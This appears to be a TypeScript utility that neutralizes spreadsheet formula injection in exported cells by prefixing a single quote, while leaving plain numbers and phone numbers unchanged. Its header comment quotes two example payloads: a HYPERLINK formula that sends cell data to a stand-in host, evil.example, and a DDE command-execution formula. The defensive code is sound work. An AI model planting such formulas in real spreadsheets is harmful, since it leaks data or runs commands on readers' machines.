/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that begins with `=`, `+`, `-`, `@`,
 * a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets, so an
 * imported or scraped value such as `=HYPERLINK("https://evil.example/?"&A1)` or `=cmd|' /C calc'!A0`
 * would execute on the reader's machine. OWASP's rule: prefix such a cell with a single quote, which
 * the spreadsheet shows as text and hides. Plain numbers (`-12.5`, `+15551234567`, an E.164 phone)
 * cannot carry a formula and are left as they are, so phones and amounts stay usable.
 */
const TRIGGER = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

export function neutralizeFormula(cell: string): string {
  return TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}
